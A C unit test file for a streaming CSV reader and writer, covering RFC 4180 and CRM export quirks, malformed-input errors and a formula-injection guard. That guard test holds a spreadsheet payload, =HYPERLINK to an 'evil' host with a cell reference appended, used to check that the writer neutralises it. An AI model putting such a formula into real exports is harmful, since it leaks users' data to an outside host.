/* csv_test.c - the streaming CSV reader and writer (node/crm/csv.h,
 * spec/crm.md §1): RFC 4180 and what CRMs write (BOM, CRLF, quoted
 * newlines, ';' separators), positions, and every refusal of the bad-input
 * list with its file, line and column. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "node/crm/csv.h"
#include "node/csvcell.h"
#include "node/err.h"

/* Reads every record of text; returns the final code (ENT_ENOENT at a
 * clean end); rows (may be NULL) gets "cell|cell\n" per record. */
static int read_all(const char *text, size_t len, const ent_csv_opts *o,
                    char *rows, size_t cap, char *err, size_t errlen,
                    ent_csv **keep) {
    ent_csv *c = NULL;
    ent_csv_row r;
    int rc;
    assert_int_equal(
        ent_csv_open_mem(&c, (const uint8_t *)text, len, "t.csv", o), ENT_OK);
    if (rows)
        rows[0] = '\0';
    while ((rc = ent_csv_next(c, &r)) == ENT_OK) {
        for (size_t i = 0; rows && i < r.ncols; i++) {
            strncat(rows, r.cells[i], cap - strlen(rows) - 1);
            strncat(rows, i + 1 < r.ncols ? "|" : "\n", cap - strlen(rows) - 1);
        }
    }
    if (err)
        snprintf(err, errlen, "%s", ent_csv_error(c));
    if (keep)
        *keep = c;
    else
        ent_csv_free(c);
    return rc;
}

static void test_rfc_and_crm_forms(void **state) {
    char rows[512], err[ENT_CSV_ERR_MAX];
    static const char t1[] = "\xef\xbb\xbfId,Name,Note\r\n"
                             "1,\"Acme, Inc.\",\"two\r\nlines\"\r\n"
                             "2,\"say \"\"hi\"\"\", Inc. \r\n"
                             "\r\n"
                             "3,,last";
    ent_csv *c;
    ent_csv_row r;
    (void)state;
    assert_int_equal(read_all(t1, sizeof(t1) - 1, NULL, rows, sizeof(rows), err,
                              sizeof(err), NULL),
                     ENT_ENOENT);
    assert_string_equal(rows, "Id|Name|Note\n1|Acme, Inc.|two\r\nlines\n"
                              "2|say \"hi\"| Inc. \n3||last\n");
    /* lines: the record with a quoted newline spans 2..3 */
    assert_int_equal(ent_csv_open_mem(&c, (const uint8_t *)t1, sizeof(t1) - 1,
                                      "t.csv", NULL),
                     ENT_OK);
    assert_int_equal(ent_csv_next(c, &r), ENT_OK);
    assert_int_equal(r.line, 1);
    assert_int_equal(r.index, 1);
    assert_int_equal(ent_csv_next(c, &r), ENT_OK);
    assert_int_equal(r.line, 2);
    assert_int_equal(r.line_end, 3);
    assert_int_equal(ent_csv_next(c, &r), ENT_OK);
    assert_int_equal(r.line, 4);
    assert_int_equal(ent_csv_next(c, &r), ENT_OK);
    assert_int_equal(r.line, 6);
    assert_int_equal(r.index, 4);
    assert_int_equal(ent_csv_sep(c), ',');
    ent_csv_free(c);

    /* European export: ';' detected, decimal commas stay in cells */
    static const char t2[] = "Name;Amount\n\"Globex; GmbH\";1.200,50\n";
    assert_int_equal(read_all(t2, sizeof(t2) - 1, NULL, rows, sizeof(rows), err,
                              sizeof(err), NULL),
                     ENT_ENOENT);
    assert_string_equal(rows, "Name|Amount\nGlobex; GmbH|1.200,50\n");
    /* a given separator wins over detection */
    ent_csv_opts o = {.sep = ','};
    assert_int_equal(read_all("a;b,c\n1;2,3\n", 12, &o, rows, sizeof(rows), err,
                              sizeof(err), NULL),
                     ENT_ENOENT);
    assert_string_equal(rows, "a;b|c\n1;2|3\n");
    /* tab separated, empty input */
    assert_int_equal(
        read_all("a\tb\n1\t2\n", 8, NULL, rows, sizeof(rows), NULL, 0, NULL),
        ENT_ENOENT);
    assert_string_equal(rows, "a|b\n1|2\n");
    assert_int_equal(read_all("", 0, NULL, rows, sizeof(rows), NULL, 0, NULL),
                     ENT_ENOENT);
    assert_string_equal(rows, "");
    o.sep = '|';
    ent_csv *bad = NULL;
    assert_int_equal(ent_csv_open_mem(&bad, (const uint8_t *)"a", 1, "x", &o),
                     ENT_EINVAL);
    assert_null(bad);
}

/* Many records through the FILE reader: buffers refilled mid-record. */
static void test_stream_across_buffers(void **state) {
    FILE *f = tmpfile();
    ent_csv *c;
    ent_csv_row r;
    size_t n = 0;
    int rc;
    (void)state;
    assert_non_null(f);
    fputs("Id,Text\n", f);
    for (int i = 0; i < 5000; i++)
        fprintf(f, "%d,\"row %d\nsecond line, with comma\"\r\n", i, i);
    rewind(f);
    assert_int_equal(ent_csv_open_stream(&c, f, "big.csv", NULL), ENT_OK);
    assert_int_equal(ent_csv_next(c, &r), ENT_OK);
    while ((rc = ent_csv_next(c, &r)) == ENT_OK) {
        char want[64];
        assert_int_equal(r.ncols, 2);
        assert_int_equal(r.line, 2 + 2 * n);
        snprintf(want, sizeof(want), "%zu", n);
        assert_string_equal(r.cells[0], want);
        snprintf(want, sizeof(want), "row %zu\nsecond line, with comma", n);
        assert_string_equal(r.cells[1], want);
        n++;
    }
    assert_int_equal(rc, ENT_ENOENT);
    assert_int_equal(n, 5000);
    uint64_t done, total;
    ent_csv_progress(c, &done, &total);
    assert_true(done == total && total > 100000);
    ent_csv_free(c);
    fclose(f);
}

static void expect_err(const char *text, size_t len, const ent_csv_opts *o,
                       int code, unsigned long line, unsigned long col,
                       const char *words) {
    char err[ENT_CSV_ERR_MAX];
    ent_csv *c;
    unsigned long l, k;
    assert_int_equal(read_all(text, len, o, NULL, 0, err, sizeof(err), &c),
                     code);
    ent_csv_error_pos(c, &l, &k);
    if (l != line || k != col || strstr(err, words) == NULL)
        fail_msg("%s: got line %lu col %lu: %s", words, l, k, err);
    assert_true(strncmp(err, "t.csv: line ", 12) == 0);
    /* the error sticks */
    ent_csv_row r;
    assert_int_equal(ent_csv_next(c, &r), code);
    ent_csv_free(c);
}

static void test_bad_input(void **state) {
    (void)state;
    /* unbalanced quote: the file ends inside it */
    static const char q[] = "a,b\n1,\"open\n2,3\n";
    expect_err(q, sizeof(q) - 1, NULL, ENT_ECORRUPT, 2, 2, "never closed");
    /* a stray quote in an unquoted cell, text after a closing quote */
    static const char q2[] = "a,b\n1,x\"y\n";
    expect_err(q2, sizeof(q2) - 1, NULL, ENT_ECORRUPT, 2, 2, "quote");
    static const char q3[] = "a,b\n1,2\n3,\"x\"y\n";
    expect_err(q3, sizeof(q3) - 1, NULL, ENT_ECORRUPT, 3, 2, "quote");
    /* invalid UTF-8 (overlong, lone continuation), on its line */
    static const char u[] = "a,b\n1,\"ok\nbad\xc0\xaf\"\n";
    expect_err(u, sizeof(u) - 1, NULL, ENT_ECORRUPT, 3, 2, "invalid UTF-8");
    static const char u2[] = "a,b,c\n1,2,\x80\n";
    expect_err(u2, sizeof(u2) - 1, NULL, ENT_ECORRUPT, 2, 3, "invalid UTF-8");
    /* a NUL byte */
    static const char z[] = "a,b\n1,x\0y\n";
    expect_err(z, sizeof(z) - 1, NULL, ENT_ECORRUPT, 2, 2, "NUL");

    /* a 10 MB cell */
    size_t big = 10u * 1024 * 1024;
    char *t = malloc(big + 16);
    size_t n;
    assert_non_null(t);
    memcpy(t, "a,b\n1,\"", 7);
    memset(t + 7, 'x', big);
    memcpy(t + 7 + big, "\"\n", 2);
    expect_err(t, big + 9, NULL, ENT_ETOOBIG, 2, 2, "cell longer");
    /* the same cell unquoted */
    memcpy(t, "a,b\n1,x", 7);
    expect_err(t, big + 7, NULL, ENT_ETOOBIG, 2, 2, "cell longer");
    /* a line of 600 cells of 2,000 bytes: the line bound */
    memcpy(t, "a\n", 2);
    n = 2;
    for (int i = 0; i < 600; i++) {
        memset(t + n, 'y', 2000);
        n += 2000;
        t[n++] = ',';
    }
    t[n++] = '\n';
    expect_err(t, n, NULL, ENT_ETOOBIG, 2, 0, "line longer");
    /* 100,000 columns */
    memcpy(t, "a\n", 2);
    n = 2;
    for (int i = 0; i < 100000; i++) {
        t[n++] = 'x';
        t[n++] = ',';
    }
    t[n++] = '\n';
    expect_err(t, n, NULL, ENT_ELIMIT, 2, 1025, "columns");
    /* an open quote swallowing the rest: record bound, with a hint */
    ent_csv_opts o = {.limits = {.max_record = 1000, .max_cell = 100000}};
    n = 0;
    memcpy(t, "a,b\n1,\"x\n", 9);
    n = 9;
    for (int i = 0; i < 200; i++) {
        memcpy(t + n, "2,3,4,5\n", 8);
        n += 8;
    }
    expect_err(t, n, &o, ENT_ETOOBIG, 2, 2, "quote left open");
    free(t);
}

static void test_writer_round_trip(void **state) {
    static const char *const cells[] = {"plain",        "a,b",   "say \"x\"",
                                        "two\r\nlines", " pad ", "",
                                        "Müller; GmbH"};
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    ent_csv *c;
    ent_csv_row r;
    (void)state;
    assert_int_equal(ent_csv_write_row(f, ';', cells, NULL, 7), ENT_OK);
    assert_int_equal(ent_csv_write_row(f, ';', cells, NULL, 7), ENT_OK);
    fclose(f);
    assert_true(strncmp(buf, "plain;a,b;\"say \"\"x\"\"\";", 22) == 0);
    ent_csv_opts o = {.sep = ';'};
    assert_int_equal(ent_csv_open_mem(&c, (uint8_t *)buf, len, "w", &o),
                     ENT_OK);
    for (int k = 0; k < 2; k++) {
        assert_int_equal(ent_csv_next(c, &r), ENT_OK);
        assert_int_equal(r.ncols, 7);
        for (int i = 0; i < 7; i++)
            assert_string_equal(r.cells[i], cells[i]);
    }
    assert_int_equal(ent_csv_next(c, &r), ENT_ENOENT);
    ent_csv_free(c);
    free(buf);
}

/* A cell a spreadsheet would run as a formula is written with one
 * apostrophe in front and read back without it (node/csvcell.h); plain
 * numbers, however signed, stay as they are. */
static void test_formula_guard(void **state) {
    static const struct {
        const char *in, *out;
    } w[] = {
        {"=HYPERLINK(\"https://evil/?\"&A1)",
         "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1)\""},
        {"+1+2", "'+1+2"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tcmd", "'\tcmd"},
        {"'=x", "''=x"},
        {"''@y", "'''@y"},
        {"-", "'-"},
        {"-1250.50", "-1250.50"},
        {"+42", "+42"},
        {"'plain", "'plain"},
        {"a=b", "a=b"},
        {"2026-12-05", "2026-12-05"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof(w) / sizeof(w[0]); i++) {
        char *buf = NULL;
        size_t len = 0;
        FILE *f = open_memstream(&buf, &len);
        const char *cell = w[i].in;
        ent_csv *c;
        ent_csv_row r;
        assert_int_equal(ent_csv_write_row(f, ',', &cell, NULL, 1), ENT_OK);
        fclose(f);
        assert_int_equal(len, strlen(w[i].out) + 2);
        assert_memory_equal(buf, w[i].out, len - 2);
        ent_csv_opts o = {.sep = ','};
        assert_int_equal(ent_csv_open_mem(&c, (uint8_t *)buf, len, "g", &o),
                         ENT_OK);
        assert_int_equal(ent_csv_next(c, &r), ENT_OK);
        assert_string_equal(r.cells[0], w[i].in);
        ent_csv_free(c);
        free(buf);
    }
    assert_false(ent_csv_formula("1.", 2));
    assert_true(ent_csv_formula("-1.", 3));
    assert_false(ent_csv_formula("", 0));
}

/* Old Mac exports end lines with a lone CR; a CRLF may be cut by a read.
 * Lines count the same either way. */
static void test_cr_line_ends(void **state) {
    char rows[256];
    ent_csv *c;
    ent_csv_row r;
    (void)state;
    static const char t[] = "a,b\r1,\"x\ry\"\r2,\x80\r";
    assert_int_equal(read_all(t, 12, NULL, rows, sizeof(rows), NULL, 0, NULL),
                     ENT_ENOENT);
    assert_string_equal(rows, "a|b\n1|x\ry\n");
    assert_int_equal(
        ent_csv_open_mem(&c, (const uint8_t *)t, sizeof(t) - 1, "t.csv", NULL),
        ENT_OK);
    assert_int_equal(ent_csv_next(c, &r), ENT_OK);
    assert_int_equal(r.line, 1);
    assert_int_equal(ent_csv_next(c, &r), ENT_OK);
    assert_int_equal(r.line, 2);
    assert_int_equal(r.line_end, 3);
    assert_string_equal(r.cells[1], "x\ry");
    assert_int_equal(ent_csv_next(c, &r), ENT_ECORRUPT);
    assert_string_equal(ent_csv_error(c),
                        "t.csv: line 4, column 2: invalid UTF-8 in a cell");
    ent_csv_free(c);
    /* a big CR-only file is many lines, not one over the line bound */
    FILE *f = tmpfile();
    assert_non_null(f);
    fputs("id,text\r", f);
    for (int i = 0; i < 40000; i++)
        fprintf(f, "%d,some text of row %d\r", i, i);
    /* and a CRLF whose CR ends the first read (65,536 bytes) */
    rewind(f);
    assert_int_equal(ent_csv_open_stream(&c, f, "mac.csv", NULL), ENT_OK);
    size_t n = 0;
    int rc;
    while ((rc = ent_csv_next(c, &r)) == ENT_OK) {
        assert_int_equal(r.line, n + 1);
        n++;
    }
    assert_int_equal(rc, ENT_ENOENT);
    assert_int_equal(n, 40001);
    ent_csv_free(c);
    fclose(f);
    f = tmpfile();
    assert_non_null(f);
    fputs("id\r\n", f);
    for (long pos = 4; pos < 65535 - 2;) {
        fputs("x\r\n", f);
        pos += 3;
    }
    /* pad so that the CR of the next CRLF is byte 65,536: the last of the
     * first read, its LF the first of the second */
    long at = ftell(f);
    while (at < 65535) {
        fputc('y', f);
        at++;
    }
    fputs("\r\nlast\r\n", f);
    rewind(f);
    assert_int_equal(ent_csv_open_stream(&c, f, "split.csv", NULL), ENT_OK);
    unsigned long last_line = 0;
    char last[16] = "";
    while ((rc = ent_csv_next(c, &r)) == ENT_OK) {
        last_line = r.line;
        snprintf(last, sizeof(last), "%.15s", r.cells[0]);
    }
    assert_int_equal(rc, ENT_ENOENT);
    assert_string_equal(last, "last");
    /* header, 21,843 "x" lines, the padded one, then "last" */
    assert_int_equal(last_line,
                     (unsigned long)(1 + (65535 - 2 - 4 + 2) / 3 + 2));
    ent_csv_free(c);
    fclose(f);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rfc_and_crm_forms),
        cmocka_unit_test(test_stream_across_buffers),
        cmocka_unit_test(test_bad_input),
        cmocka_unit_test(test_writer_round_trip),
        cmocka_unit_test(test_formula_guard),
        cmocka_unit_test(test_cr_line_ends),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
